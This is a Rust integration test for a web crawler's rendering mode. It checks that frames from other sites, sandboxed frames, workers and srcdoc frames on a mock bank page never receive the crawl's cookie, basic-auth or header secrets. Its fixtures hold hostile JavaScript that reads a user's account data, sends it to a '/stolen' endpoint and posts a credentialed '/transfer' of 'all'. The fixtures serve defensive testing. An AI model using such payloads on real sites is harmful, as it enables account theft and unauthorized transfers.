//! Frames of other sites in a page: they bear none of the crawl's secrets, and so read nothing in the user's name.

use testkit::ran::argiope;
use testweb::{Config, Heard, Reply, Request, Server, Web, from_fn};

/// What a frame of an advertiser tries at the bank whose page shows it.
const AD: &str =
    "<p id=p>ad</p><iframe srcdoc=\"<script>fetch('http://bank.test/api/me?srcdoc')</script>\"></iframe><script>
    const bank = 'http://bank.test';
    (async () => {
        const told = await fetch(bank + '/api/me?frame').then(answer => answer.text());
        await fetch('/stolen?' + encodeURIComponent(told));
        await fetch(bank + '/transfer', {method: 'POST', mode: 'no-cors', credentials: 'include', body: 'all'});
        const code = `fetch('${bank}/api/me?worker')`;
        new Worker(URL.createObjectURL(new Blob([code])));
        document.getElementById('p').textContent = 'ad done';
    })();
    </script>";

/// The bank's own page asks, too, in a frame of its own as well. What others wrote it shows in sandboxes.
const BANK: &str = "<iframe src=http://ad.test/frame></iframe><iframe src=/own></iframe>
    <iframe sandbox=allow-scripts src=/letter?sandbox></iframe><iframe src=/letter?policy></iframe>
    <iframe sandbox=allow-scripts srcdoc=\"<script>fetch('http://bank.test/api/me?written', {credentials: 'include'})</script>\"></iframe>
    <p id=p></p><script>fetch('/api/me?page').then(a => a.text()).then(t => document.getElementById('p').textContent = t)</script>";

/// What somebody wrote to a user of the bank tries the same as the advertiser.
const LETTER: &str = "<script>
    const by = location.search.slice(1);
    fetch('/api/me?read-' + by, {credentials: 'include'});
    fetch('/transfer?' + by, {method: 'POST', mode: 'no-cors', credentials: 'include', body: 'all'});
    document.head.append(Object.assign(document.createElement('script'), {src: '/api/me?script-' + by}));
    </script>";

#[test]
fn a_foreign_frame_bears_no_secret() {
    let heard = Heard::default();
    let bank = heard.at(from_fn(|request: &Request| {
        let knows = |field: &str| request.header(field).is_some_and(|value| value.contains("S3CRET"));
        match request.path() {
            "/" => Reply::html(BANK),
            "/letter" if request.target.ends_with("?policy") => {
                Reply::html(LETTER).header("Content-Security-Policy", "sandbox allow-scripts")
            }
            "/letter" => Reply::html(LETTER),
            "/own" => Reply::html("<script>fetch('/api/me?own')</script>"),
            "/api/me" if knows("cookie") || knows("authorization") || knows("x-key") => {
                Reply::text("PRIVATE").header("Access-Control-Allow-Origin", "*")
            }
            "/api/me" => Reply::text("stranger").header("Access-Control-Allow-Origin", "*"),
            target => Reply::error(404, target),
        }
    }));
    let ad = heard.at(from_fn(|request: &Request| match request.path() {
        "/frame" => Reply::html(AD),
        target => Reply::error(404, target),
    }));
    let runtime = tokio::runtime::Runtime::new().expect("a runtime");
    let web = Web::new().site("bank.test", bank).site("ad.test", ad);
    let server = runtime.block_on(Server::start(Config::new(web))).expect("a free port");
    let files = tempfile::tempdir().expect("a directory");
    let (dir, cookies) = (files.path().join("crawl").display().to_string(), files.path().join("cookies.txt"));
    std::fs::write(&cookies, ".bank.test\tTRUE\t/\tFALSE\t0\tsession\tS3CRET-C\n").expect("written");
    std::fs::set_permissions(&cookies, std::os::unix::fs::PermissionsExt::from_mode(0o600)).expect("set");
    let (to, cookies) = (format!("::{}", server.addresses()[0]), cookies.display().to_string());
    let ran = argiope(&[
        "crawl",
        "-o",
        &dir,
        "http://ana:S3CRET-A@bank.test/",
        "--header",
        "X-Key: S3CRET-K",
        "--cookies",
        &cookies,
        "--connect-to",
        &to,
        "--delay",
        "0",
        "--ip-delay",
        "0",
        "--render",
        "always",
        "--depth",
        "0",
        "--no-sitemaps",
    ]);
    assert_eq!(ran.code, 0, "{ran:?}");
    let requests = heard.requests();
    let by = |mark: &str| {
        let found = requests.iter().find(|request| request.target.contains(mark));
        let found = found.unwrap_or_else(|| panic!("{mark}: {requests:?}"));
        format!("{:?}", found.headers).contains("S3CRET")
    };
    assert!(by("?page") && by("?own"), "the bank's own pages are logged in");
    for mark in ["?frame", "?worker", "?srcdoc", "/transfer", "/stolen", "?written"] {
        assert!(!by(mark), "{mark}");
    }
    for (way, letter) in ["/api/me?read-", "/transfer?", "/api/me?script-"]
        .iter()
        .flat_map(|way| ["sandbox", "policy"].map(|letter| (way, letter)))
    {
        assert!(!by(&format!("{way}{letter}")), "{way}{letter}");
    }
    let stolen = requests.iter().find(|request| request.target.starts_with("/stolen")).expect("told");
    assert_eq!(stolen.target, "/stolen?stranger");
}
